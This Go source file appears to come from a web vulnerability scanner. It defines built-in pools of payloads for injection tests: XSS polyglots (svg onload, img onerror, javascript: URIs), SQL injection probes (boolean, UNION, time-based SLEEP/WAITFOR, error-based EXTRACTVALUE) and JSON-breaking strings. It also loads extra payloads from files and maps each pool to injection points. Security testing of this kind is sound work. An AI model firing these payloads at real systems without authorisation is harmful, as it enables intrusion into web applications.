package payloads

import (
	"bufio"
	"fmt"
	"os"
	"strings"

	"github.com/mitchellh/go-homedir"
	"go.uber.org/zap"

	"github.com/xkilldash9x/arkenar/internal/config"
	"github.com/xkilldash9x/arkenar/internal/mutator"
)

// -- Built-in pools --

// PolyglotXSS survive several HTML and script contexts at once.
var PolyglotXSS = []string{
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcLiCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	`<svg/onload=alert()//>`,
	`<img src=x onerror=alert()>`,
	`</script><script>alert()</script>`,
	`" onmouseover="alert()`,
	"`${alert()}`",
	`\u003cscript\u003ealert()\u003c/script\u003e`,
	`javascript:alert()//`,
	`'-alert()-'`,
	`<a id=x name=y href=1></a><a id=x name=z href=javascript:alert()></a>`,
}

// PolyglotSQLi covers error, boolean, union and time based probes.
var PolyglotSQLi = []string{
	`' OR '1'='1'--`,
	`' OR SLEEP(5)--`,
	`'; SELECT pg_sleep(5)--`,
	`' UNION SELECT NULL,NULL,NULL--`,
	`'; WAITFOR DELAY '0:0:5'--`,
	`' AND '1'='1`,
	`%27%20OR%20%271%27%3D%271`,
	`'/**/OR/**/1=1--`,
	`' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--`,
	`1'/*!50000UNION*//*!50000SELECT*/1,2,3--`,
}

// PolyglotJSON break out of string, object and array contexts.
var PolyglotJSON = []string{
	`"`,
	`",`,
	`}`,
	`]`,
	"\x00",
	`\`,
	`\u0000`,
	`":`,
	`],"`,
	`},"key":"`,
	`{"nested":"value"}`,
	`true`,
	`123`,
	"\n\r",
}

// Loader holds the four payload pools. It is immutable after construction
// and safe to share between goroutines.
type Loader struct {
	xss     []string
	sqli    []string
	json    []string
	generic []string
}

// NewBuiltin returns a loader holding only the built-in pools.
func NewBuiltin() *Loader {
	return &Loader{
		xss:  append([]string(nil), PolyglotXSS...),
		sqli: append([]string(nil), PolyglotSQLi...),
		json: append([]string(nil), PolyglotJSON...),
	}
}

// NewLoader returns the built-in pools extended by the files named in cfg.
// Missing or unreadable files are logged and skipped.
func NewLoader(cfg config.PayloadsConfig, logger *zap.Logger) *Loader {
	if logger == nil {
		logger = zap.NewNop()
	}
	log := logger.Named("payloads")

	l := NewBuiltin()
	extend := func(pool *[]string, path, name string) {
		if path == "" {
			return
		}
		extra, err := LoadFile(path)
		if err != nil {
			log.Warn("Payload file not loaded", zap.String("pool", name), zap.String("path", path), zap.Error(err))
			return
		}
		*pool = append(*pool, extra...)
		log.Debug("Payload file loaded", zap.String("pool", name), zap.Int("count", len(extra)))
	}

	extend(&l.xss, cfg.XSS, "xss")
	extend(&l.sqli, cfg.SQLi, "sqli")
	extend(&l.json, cfg.JSON, "json")
	extend(&l.generic, cfg.Generic, "generic")
	return l
}

// LoadFile reads one payload per line, trimming whitespace and skipping
// blank lines and lines starting with '#'.
func LoadFile(path string) ([]string, error) {
	expanded, err := homedir.Expand(path)
	if err != nil {
		return nil, fmt.Errorf("failed to expand path %q: %w", path, err)
	}
	f, err := os.Open(expanded)
	if err != nil {
		return nil, err
	}
	defer f.Close()

	var out []string
	scanner := bufio.NewScanner(f)
	scanner.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for scanner.Scan() {
		line := strings.TrimSpace(scanner.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		out = append(out, line)
	}
	if err := scanner.Err(); err != nil {
		return nil, fmt.Errorf("failed to read %s: %w", expanded, err)
	}
	return out, nil
}

// For returns the payloads applicable to point. The returned slice is a
// fresh copy.
func (l *Loader) For(point mutator.InjectionPoint) []string {
	switch point.Kind {
	case mutator.PointJSONField:
		return concat(l.json, l.generic)
	case mutator.PointURLParam, mutator.PointFormParam:
		return concat(l.xss, l.sqli)
	case mutator.PointHeader:
		return concat(l.generic, l.sqli)
	default:
		return nil
	}
}

// Counts reports the size of each pool, keyed by pool name.
func (l *Loader) Counts() map[string]int {
	return map[string]int{
		"xss":     len(l.xss),
		"sqli":    len(l.sqli),
		"json":    len(l.json),
		"generic": len(l.generic),
	}
}

func concat(a, b []string) []string {
	out := make([]string, 0, len(a)+len(b))
	out = append(out, a...)
	return append(out, b...)
}
